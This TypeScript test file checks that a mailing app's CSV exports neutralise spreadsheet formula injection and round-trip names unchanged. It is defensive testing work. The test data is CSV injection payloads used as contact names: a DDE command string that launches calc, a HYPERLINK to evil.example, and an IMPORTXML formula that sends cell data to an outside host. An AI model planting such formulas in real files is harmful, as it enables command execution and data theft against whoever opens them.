// A8 Cells that a spreadsheet would take for a formula: harmless in what is exported, and what they were when that is read again.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { openHouse, type House } from '#app/testing/house.ts'
import { rowCells, rowHeader } from '#channels/tally.ts'
import { openOuting, type Outing } from '#channels/testing/outing.ts'
import { linesOf } from '#kernel/csv.ts'
import { csvFile, csvLine, pagesOf } from '#kernel/export.ts'
import { openSink, type Sink } from '#kernel/testing/smtp.ts'
import { upTo } from './ground.ts'

let house: House
let sink: Sink
let outing: Outing
before(async () => {
  house = await openHouse()
  sink = await openSink()
  outing = await openOuting(house)
  await outing.connect(sink)
})
after(async () => {
  await sink.close()
  await house.close()
})

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''@"]
const orders = [
  'cmd|’ /C calc’!A0',
  'HYPERLINK("https://evil.example","Open")',
  '1+1',
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("https://e.example",A1))',
]
const names = signs.flatMap((sign) => orders.map((order) => `${sign}${order}`))
/** What spreadsheets take for the beginning of a formula, where nothing stands before it. */
const formula = /^[=+\-@\t\r\n＝＋－＠]/

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`

test(`A8 ${names.length} formulas for names: in the export of a mailing no cell is one, and imported again everybody is called as before`, async () => {
  const owner = outing.org.as('marketing_director')
  const consent = { source: 'Fair', wording: 'Send me news' }
  for (const [n, name] of names.entries()) await owner.createPerson({ name, email: `reader${n}@example.net`, consent })
  const mailing = await outing.mail({ subject: '=1+1' })
  await house.settle()
  const rows = async function* () {
    for await (const page of pagesOf((cursor) => outing.desk.listRecipients({ id: mailing.id, limit: 20, ...(cursor ? { cursor } : {}) })))
      yield page.map((row) => rowCells('=1+1', row))
  }
  let csv = ''
  for await (const { text } of csvFile(rowHeader, null, rows())) csv += text
  const cells = parse(csv, { bom: true, record_delimiter: '\r\n' })
  assert.equal(cells.length, names.length + 1)
  assert.deepEqual(
    cells.flat().filter((cell) => formula.test(cell)),
    [],
  )
  const called = async () => {
    const { items } = await owner.listPersons({ limit: 200 })
    return items.map(({ name, email, version }) => [email, name, version]).toSorted((a, b) => String(a[0]).localeCompare(String(b[0])))
  }
  const before = await called()
  const { counts } = await owner.importPersons({ csv, source: 'Export' })
  assert.deepEqual([counts.added, counts.changed], [0, 0])
  assert.deepEqual(await called(), before)
  // What somebody else’s list holds is a name as well, and stays one.
  const list = ['Email,Name', ...names.map((name, n) => `other${n}@example.net,${quoted(name)}`)].join('\n')
  assert.equal((await owner.importPersons({ csv: list, source: 'Fair' })).counts.added, names.length)
})

test('A8 whatever text a line is made of, it holds no formula and reads as it was written', () => {
  const text = fc
    .tuple(fc.constantFrom('', ...signs, '\t', '\r\n', "'"), fc.string({ unit: 'grapheme' }))
    .map(([sign, rest]) => `${sign}${rest}`)
    // Line ends are read as line feeds, whichever they were.
    .map((cell) => cell.replaceAll(/\r\n?/g, '\n').replaceAll(/[\uFEFF\0]/g, ''))
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
      const line = csvLine(['first', ...cells])
      const [raw] = parse(line, { record_delimiter: '\r\n' })
      assert.deepEqual(
        raw!.filter((cell) => formula.test(cell)),
        [],
      )
      assert.deepEqual(linesOf(line, ',')[0]!.cells, ['first', ...cells])
    }),
    { numRuns: upTo(50_000, 1000) },
  )
})
